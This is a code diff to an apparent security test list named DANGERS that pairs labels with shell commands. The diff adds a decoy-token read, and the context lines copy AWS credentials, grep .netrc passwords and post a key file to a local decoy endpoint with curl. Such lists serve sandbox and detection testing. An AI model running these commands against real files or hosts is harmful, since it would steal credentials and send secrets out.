@@ -56,6 +56,11 @@ DANGERS: list[tuple[str, str, str]] = [
     ("read-aws", "read credentials", 'cp "$HOME/.aws/credentials" aws.txt'),
     ("read-netrc", "read credentials", 'grep password "$HOME/.netrc" > netrc.txt'),
     (
+        "env-token",
+        "read credentials",
+        'printf "%s" "$DECOY_TOKEN" > token.txt; test -n "$DECOY_TOKEN"',
+    ),
+    (
         "exfil-curl",
         "exfiltrate",
         'curl -s -m 5 --data-binary @key.txt "http://127.0.0.1:$DECOY_PORT/exfil"',
